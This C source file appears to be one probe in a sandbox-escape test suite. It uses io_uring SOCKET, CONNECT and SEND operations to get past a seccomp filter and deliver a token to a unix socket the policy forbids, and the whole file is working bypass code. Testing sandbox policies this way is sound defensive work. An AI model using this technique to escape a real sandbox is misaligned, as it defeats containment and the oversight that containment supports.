/* moat-escape-uring SOCKET TOKEN
 *
 * io_uring runs socket operations without the socket(2)/connect(2)
 * syscalls a seccomp filter sees. The attack: create a ring (through the
 * x86_64, x32 or i386 entry), then IORING_OP_SOCKET(AF_UNIX),
 * IORING_OP_CONNECT to SOCKET (a unix socket the policy does not allow)
 * and IORING_OP_SEND of TOKEN. The suite judges by whether its listener on
 * SOCKET saw a connection. Exits ESC_ESCAPED if a ring could be created. */
#include "escape.h"

#include <linux/io_uring.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>

#define NR_SETUP 425 /* io_uring_setup: the same number on x86_64 and i386 */
#define NR_ENTER 426

struct ring {
  enum esc_abi abi;
  int fd;
  unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
  struct io_uring_sqe *sqes;
  struct io_uring_cqe *cqes;
};

static void *map(int fd, size_t size, off_t offset) {
  void *p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, offset);
  return p == MAP_FAILED ? NULL : p;
}

static int ring_map(struct ring *r, const struct io_uring_params *p) {
  char *sq = map(r->fd, p->sq_off.array + p->sq_entries * sizeof(unsigned), IORING_OFF_SQ_RING);
  char *cq = map(r->fd, p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe), IORING_OFF_CQ_RING);
  r->sqes = map(r->fd, p->sq_entries * sizeof(struct io_uring_sqe), IORING_OFF_SQES);
  if (!sq || !cq || !r->sqes)
    return -1;
  r->sq_tail = (unsigned *)(sq + p->sq_off.tail);
  r->sq_mask = (unsigned *)(sq + p->sq_off.ring_mask);
  r->sq_array = (unsigned *)(sq + p->sq_off.array);
  r->cq_head = (unsigned *)(cq + p->cq_off.head);
  r->cq_tail = (unsigned *)(cq + p->cq_off.tail);
  r->cq_mask = (unsigned *)(cq + p->cq_off.ring_mask);
  r->cqes = (struct io_uring_cqe *)(cq + p->cq_off.cqes);
  return 0;
}

/* Submits one request and waits for its completion: its result. */
static long ring_run(struct ring *r, const struct io_uring_sqe *sqe) {
  unsigned tail = *r->sq_tail, index = tail & *r->sq_mask;
  r->sqes[index] = *sqe;
  r->sq_array[index] = index;
  __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
  if (esc_syscall(r->abi, NR_ENTER, NR_ENTER, r->fd, 1, 1, IORING_ENTER_GETEVENTS, 0) < 0)
    return -errno;
  unsigned head = *r->cq_head;
  if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE))
    return -EAGAIN;
  long res = r->cqes[head & *r->cq_mask].res;
  __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
  return res;
}

static const char *socket_path, *token;

/* One ABI: make a ring, then socket + connect + send through it. */
static int attack(enum esc_abi abi, void *unused) {
  (void)unused;
  struct ring r = {.abi = abi};
  struct io_uring_params *params = esc_low(sizeof *params);
  if (!params)
    return ESC_USAGE;
  long fd = esc_syscall(abi, NR_SETUP, NR_SETUP, 8, (long)params, 0, 0, 0);
  char what[64];
  snprintf(what, sizeof what, "io_uring_setup (%s)", esc_abi_name[abi]);
  esc_note(what, fd);
  if (fd < 0)
    return ESC_OK;
  r.fd = (int)fd;
  if (ring_map(&r, params) != 0)
    return ESC_ESCAPED;

  struct sockaddr_un addr = {.sun_family = AF_UNIX};
  strncpy(addr.sun_path, socket_path, sizeof addr.sun_path - 1);
  struct io_uring_sqe sqe = {.opcode = IORING_OP_SOCKET, .fd = AF_UNIX, .off = SOCK_STREAM};
  long sock = ring_run(&r, &sqe);
  fprintf(stderr, "IORING_OP_SOCKET: %ld\n", sock);
  if (sock >= 0) {
    sqe = (struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = (int)sock,
                                .addr = (unsigned long)&addr, .off = sizeof addr};
    fprintf(stderr, "IORING_OP_CONNECT: %ld\n", ring_run(&r, &sqe));
    sqe = (struct io_uring_sqe){.opcode = IORING_OP_SEND, .fd = (int)sock,
                                .addr = (unsigned long)token, .len = (unsigned)strlen(token)};
    fprintf(stderr, "IORING_OP_SEND: %ld\n", ring_run(&r, &sqe));
  }
  return ESC_ESCAPED;
}

int main(int argc, char **argv) {
  if (argc != 3)
    return ESC_USAGE;
  esc_deadline(10);
  socket_path = argv[1];
  token = argv[2];
  return esc_each_abi(attack, NULL);
}
